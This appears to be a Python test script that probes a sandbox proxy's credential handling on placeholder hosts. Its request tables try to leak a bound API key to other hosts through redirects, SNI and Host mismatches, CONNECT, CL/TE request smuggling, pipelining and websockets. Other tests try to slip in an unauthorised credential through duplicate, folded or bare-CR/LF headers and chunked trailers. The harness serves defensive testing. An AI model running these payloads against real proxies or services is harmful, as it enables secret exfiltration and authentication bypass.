"""Tries to have a secret sent where it is not meant to go, and to use another credential where one is required.

Each attack marks its request with own-..., or says nothing that has a mark if it is good: what
arrived is judged by the servers. A line tells what the program saw.
"""
import base64, json, os, socket, ssl, subprocess, sys

BOUND, FREE, STRICT = "exact.example", "front.test", "both.test"
P = os.environ["API_KEY"]
R = os.environ["REQUIRED_KEY"]
OLD = sys.argv[1]  # the placeholder that another sandbox had
OWN = "own" + "key" + "1234567890abcdef"


def raw(address, text, tls=None, port=None, alpn=("http/1.1",), more=b"", wait=3):
    port = port or (443 if tls else 80)
    s = socket.create_connection((address, port), timeout=wait)
    if tls:
        c = ssl.create_default_context()
        c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
        c.set_alpn_protocols(list(alpn))
        s = c.wrap_socket(s, server_hostname=tls if tls != "-" else None)
    s.sendall(text if isinstance(text, bytes) else text.encode())
    got = b""
    try:
        if more:
            got += s.recv(65536)
            s.sendall(more)
        while chunk := s.recv(65536):
            got += chunk
    except OSError as e:
        got += b" <%s>" % str(e).encode()
    return got


def curl(*args):
    out = subprocess.run(["curl", "-sS", "-i", "-m", "4", *args], capture_output=True)
    return out.stdout + out.stderr


def ask(host, path="/ok", headers="", method="GET", body=""):
    if body:
        headers += f"Content-Length: {len(body)}\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}\r\n{body}"


def auth(p=P):
    return f"Authorization: Bearer {p}\r\nX-Api-Key: {p}\r\n"


def basic(user, password):
    return "Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


everywhere = ["-H", "Authorization: Bearer " + P, "-H", "Cookie: a=" + P, "-H", "X-" + P + ": 1", "-d", "key=" + P]
wander = {
    # names that are allowed, and not bound
    "free https": lambda: curl(*everywhere, f"https://{FREE}/p/{P}?key={P}"),
    "free http": lambda: curl(*everywhere, f"http://{FREE}/p/{P}?key={P}"),
    "free http2": lambda: curl("--http2", *everywhere, f"https://{FREE}/?key={P}"),
    "free h2c": lambda: curl("--http2-prior-knowledge", *everywhere, f"http://{FREE}/?key={P}"),
    "free basic": lambda: curl("-u", "user:" + P, f"https://{FREE}/"),
    "redirect": lambda: curl("-L", "--location-trusted", *everywhere[:4], f"https://{BOUND}/redirect?to=https://{FREE}/moved?k={P}"),
    "redirect to http": lambda: curl("-L", "--location-trusted", *everywhere[:4], f"https://{BOUND}/redirect?to=http://{BOUND}/moved"),
    "redirect to free http": lambda: curl("-L", "--location-trusted", *everywhere[:4], f"https://{BOUND}/redirect?to=http://{FREE}/moved"),
    # the bound name, in the clear
    "http header": lambda: curl("-H", "Authorization: Bearer " + P, f"http://{BOUND}/"),
    "http query": lambda: curl(f"http://{BOUND}/?k={P}"),
    "http basic": lambda: curl("-u", "u:" + P, f"http://{BOUND}/"),
    "http body": lambda: curl("-d", P, f"http://{BOUND}/"),
    "http on 443": lambda: raw(BOUND, ask(BOUND, headers=auth()), port=443),
    "http on 443 with port": lambda: raw(BOUND, ask(BOUND + ":443", headers=auth()), port=443),
    "http absolute https": lambda: raw(BOUND, ask(BOUND, f"https://{BOUND}/", auth())),
    "h2c": lambda: curl("--http2-prior-knowledge", "-H", "Authorization: Bearer " + P, f"http://{BOUND}/"),
    "h2c upgrade": lambda: curl("--http2", "-H", "Authorization: Bearer " + P, f"http://{BOUND}/"),
    "tls on 80": lambda: raw(BOUND, ask(BOUND, headers=auth()), tls=BOUND, port=80),
    # one name's connection for another
    "sni free at bound": lambda: raw(BOUND, ask(FREE, headers=auth()), tls=FREE),
    "sni bound at free": lambda: raw(FREE, ask(BOUND, headers=auth()), tls=BOUND),
    "no sni at bound": lambda: raw(BOUND, ask(BOUND, headers=auth()), tls="-"),
    "no sni at free": lambda: raw(FREE, ask(BOUND, headers=auth()), tls="-"),
    "host free": lambda: raw(BOUND, ask(FREE, headers=auth()), tls=BOUND),
    "host free with port": lambda: raw(BOUND, ask(BOUND + ":444", headers=auth()), tls=BOUND),
    "two hosts": lambda: raw(BOUND, ask(BOUND, headers=f"Host: {FREE}\r\n" + auth()), tls=BOUND),
    "host bound at free": lambda: raw(FREE, ask(BOUND, headers=auth()), tls=FREE),
    "absolute": lambda: raw(BOUND, ask(BOUND, f"https://{FREE}/", auth()), tls=BOUND),
    "absolute http": lambda: raw(BOUND, ask(BOUND, f"http://{BOUND}/", auth()), tls=BOUND),
    "absolute with user": lambda: raw(BOUND, ask(BOUND, f"https://{P}@{BOUND}/", auth()), tls=BOUND),
    "no path": lambda: raw(BOUND, ask(BOUND, f"@{FREE}/", auth()), tls=BOUND),
    "authority": lambda: curl("--http2", "-H", f"Host: {FREE}", "-H", "Authorization: Bearer " + P, f"https://{BOUND}/"),
    "forwarded host": lambda: curl("-H", f"X-Forwarded-Host: {FREE}", "-H", f"Forwarded: host={FREE}", f"https://{BOUND}/ok"),
    "connect": lambda: raw(BOUND, f"CONNECT {FREE}:443 HTTP/1.1\r\nHost: {FREE}:443\r\n{auth()}\r\n", tls=BOUND),
    "connect itself": lambda: raw(BOUND, f"CONNECT {BOUND}:443 HTTP/1.1\r\nHost: {BOUND}:443\r\n{auth()}\r\n", tls=BOUND, more=ask(FREE, headers=auth()).encode()),
    "trace": lambda: raw(BOUND, ask(BOUND, headers=auth(), method="TRACE"), tls=BOUND),
    "pipelined": lambda: raw(BOUND, (ask(BOUND, headers=auth()).replace("Connection: close\r\n", "") + ask(FREE, headers=auth())), tls=BOUND),
    "smuggled": lambda: raw(BOUND, f"POST /ok HTTP/1.1\r\nHost: {BOUND}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n{auth()}\r\n0\r\n\r\n" + ask(FREE, headers=auth()), tls=BOUND),
    "smuggled te": lambda: raw(BOUND, f"POST /ok HTTP/1.1\r\nHost: {BOUND}\r\nTransfer-Encoding : chunked\r\nContent-Length: 60\r\n{auth()}\r\n0\r\n\r\n" + ask(FREE, headers=auth()), tls=BOUND),
    "upgrade": lambda: raw(BOUND, f"GET /ok HTTP/1.1\r\nHost: {BOUND}\r\nUpgrade: x\r\nConnection: Upgrade\r\n{auth()}\r\n", tls=BOUND, more=ask(FREE, headers=auth()).encode()),
    "websocket": lambda: raw(BOUND, f"GET /ws HTTP/1.1\r\nHost: {BOUND}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n{auth()}\r\n",
                             tls=BOUND, more=bytes([0x81, 0x80 | len(P), 0, 0, 0, 0]) + P.encode(), wait=1),
    # places of the bound name's own requests where nothing is put in
    "path": lambda: curl(f"https://{BOUND}/p/{P}"),
    "header name": lambda: curl("-H", f"X-{P}: 1", f"https://{BOUND}/ok"),
    "body": lambda: curl("-d", P, f"https://{BOUND}/ok"),
    "json": lambda: curl("--json", json.dumps({"k": P}), f"https://{BOUND}/ok"),
    "host": lambda: raw(BOUND, ask(P, headers=auth()), tls=BOUND),
    "host below": lambda: raw(BOUND, ask(P + "." + BOUND, headers=auth()), tls=BOUND),
    "method": lambda: raw(BOUND, ask(BOUND, method=P), tls=BOUND),
    "trailer": lambda: raw(BOUND, f"POST /ok HTTP/1.1\r\nHost: {BOUND}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: X-Late\r\n\r\n1\r\na\r\n0\r\nX-Late: {P}\r\n\r\n", tls=BOUND),
    # placeholders of others
    "old placeholder": lambda: curl("-H", "Authorization: Bearer " + OLD, f"https://{BOUND}/ok?k={OLD}"),
    "the other's placeholder": lambda: curl("-H", "Authorization: Bearer " + R, f"https://{BOUND}/ok?k={R}"),
    "changed placeholder": lambda: curl("-H", "Authorization: Bearer " + P[:-1], f"https://{BOUND}/ok?k={P.upper()}"),
    "many placeholders": lambda: curl("-H", "X-A: " + P * 1000, f"https://{BOUND}/ok"),
}


def strict(*args, path="/ok", http="--http1.1"):
    return curl(http, *args, f"https://{STRICT}{path}")


HEADERS = ["Authorization: Bearer ", "Authorization: ", "Authorization: Token ", "Authorization: Basic ", "X-Api-Key: ", "Api-Key: ", "apikey: ", "X-Auth-Token: ", "X-Auth-Key: ",
           "Private-Token: ", "PRIVATE_TOKEN: ", "X-Goog-Api-Key: ", "Ocp-Apim-Subscription-Key: ", "DD-API-KEY: ", "X-Vault-Token: ", "X-Shopify-Access-Token: ", "X-Amz-Security-Token: ",
           "Cookie: session=", "X-Session-Token: ", "X-Csrf-Token: ", "X-Access-Key: ", "X-Secret: ", "X-Password: ", "X-JWT-Assertion: ", "X-Parse-REST-API-Key: ", "X-GitHub-Token: ",
           "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.", "Sec-WebSocket-Protocol: base64url.bearer.authorization.k8s.io."]
QUERIES = ["key", "api_key", "apiKey", "access_token", "token", "auth", "sig", "signature", "password", "client_secret", "jwt", "X-Amz-Signature", "%6bey", "user[token]", "subscription-key", "hapikey"]
mine = {"none": lambda: strict(path="/ok?own"), "none http": lambda: curl(f"http://{STRICT}/ok?own"), "http": lambda: curl("-H", "X-Api-Key: " + R, f"http://{STRICT}/ok?own")}

# Each header and each parameter is tried in one of the encodings, alternating, or in all of them.
WAYS = {
    "alone": lambda h: ["-H", h + OWN],
    "beside": lambda h: ["-H", h + OWN, "-H", "X-Anything: " + R],
    "together": lambda h: ["-H", h + R + " " + OWN],
    "again": lambda h: ["-H", h + R, "-H", h + OWN],
    "before": lambda h: ["-H", h + OWN, "-H", h + R],
}
PLACES = {"alone": "{q}={own}", "twice": "{q}={r}&{q}={own}", "semicolon": "a=b;{q}={own}"}
ALL = "all" in sys.argv[2:]
for i, (version, h) in enumerate((v, h) for v in ("--http1.1", "--http2") for h in HEADERS):
    for way in list(WAYS) if ALL else [list(WAYS)[i % len(WAYS)]]:
        mine[f"{version} {h} {way}"] = lambda h=h, v=version, way=way: strict(*WAYS[way](h), http=v)
for i, q in enumerate(QUERIES):
    for place in list(PLACES) if ALL else [list(PLACES)[i % len(PLACES)]]:
        mine[f"query {q} {place}"] = lambda q=q, place=place: strict(*([] if place == "twice" else ["-H", "X-Anything: " + R]), path="/ok?" + PLACES[place].format(q=q, r=R, own=OWN))
mine |= {
    "basic": lambda: strict("-u", f"user:{OWN}"),
    "basic own user": lambda: strict("-u", f"{OWN}:{R}"),
    "basic own password": lambda: strict("-u", f"{R}:{OWN}"),
    "basic twice": lambda: strict("-H", basic("user", R), "-H", basic("user", OWN)),
    "basic comma": lambda: strict("-H", basic("user", R) + ", " + basic("user", OWN)[15:]),
    "basic behind": lambda: strict("-H", basic("user", R) + " " + OWN),
    "two cookies": lambda: strict("-H", f"Cookie: a={R}; b={OWN}"),
    "url user": lambda: raw(STRICT, ask(STRICT, f"https://u:{OWN}@{STRICT}/ok", f"X-A: {R}\r\n"), tls=STRICT),
    "pipelined": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\r\n").replace("Connection: close\r\n", "") + ask(STRICT, headers=f"Authorization: Bearer {OWN}\r\n"), tls=STRICT),
    "pipelined at once": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\r\n").replace("Connection: close\r\n", "") * 5 + ask(STRICT, "/ok?own"), tls=STRICT),
    "trailer": lambda: raw(STRICT, f"POST /ok HTTP/1.1\r\nHost: {STRICT}\r\nX-A: {R}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n1\r\na\r\n0\r\nAuthorization: Bearer {OWN}\r\n\r\n", tls=STRICT),
    "hidden trailer": lambda: raw(STRICT, f"POST /ok HTTP/1.1\r\nHost: {STRICT}\r\nX-A: {R}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: X-B\r\n\r\n1\r\na\r\n0\r\nAuthorization: Bearer {OWN}\r\n\r\n", tls=STRICT),
    "hop by hop": lambda: raw(STRICT, ask(STRICT, "/ok?own", f"Connection: X-A\r\nX-A: {R}\r\n").replace("Connection: close\r\n", ""), tls=STRICT),
    "proxy": lambda: strict("-H", "Proxy-Authorization: Bearer " + R, path="/ok?own"),
    "in the path": lambda: strict(path=f"/{R}?own"),
    "in the body": lambda: strict("-d", R, path="/ok?own"),
    "folded": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\r\nAuthorization:\r\n Bearer {OWN}\r\n"), tls=STRICT),
    "space before colon": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\r\nAuthorization : Bearer {OWN}\r\n"), tls=STRICT),
    "bare cr": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\rAuthorization: Bearer {OWN}\r\n"), tls=STRICT),
    "bare lf": lambda: raw(STRICT, ask(STRICT, headers=f"X-A: {R}\nAuthorization: Bearer {OWN}\r\n"), tls=STRICT),
    "upgrade raw": lambda: raw(STRICT, f"GET /ok HTTP/1.1\r\nHost: {STRICT}\r\nX-A: {R}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n",
                               tls=STRICT, more=ask(STRICT, headers=f"Authorization: Bearer {OWN}\r\n").encode(), wait=1),
    "websocket without": lambda: raw(STRICT, f"GET /ws?own HTTP/1.1\r\nHost: {STRICT}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n", tls=STRICT, wait=1),
}
good = {
    "bearer": lambda: strict("-H", "Authorization: Bearer " + R),
    "bearer http2": lambda: strict("-H", "Authorization: Bearer " + R, http="--http2"),
    "api key": lambda: strict("-H", "X-Api-Key: " + R),
    "basic": lambda: strict("-u", "user:" + R),
    "basic mail": lambda: strict("-u", "somebody.long@example.com/token:" + R),
    "basic user": lambda: strict("-u", R + ":"),
    "basic oauth": lambda: strict("-u", R + ":x-oauth-basic"),
    "query": lambda: strict(path="/ok?key=" + R),
    "protocol": lambda: strict("-H", "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key." + R),
}

for kind, all in {"wander": wander, "mine": mine, "good": good}.items():
    for name, f in all.items():
        try:
            got = f()
        except OSError as e:
            got = b"<%s>" % str(e).encode()
        head = got[:50].decode("latin1").split("\r")[0]
        print(json.dumps({"name": f"{kind}: {name}", "bytes": len(got), "found": [], "saw": head}), flush=True)
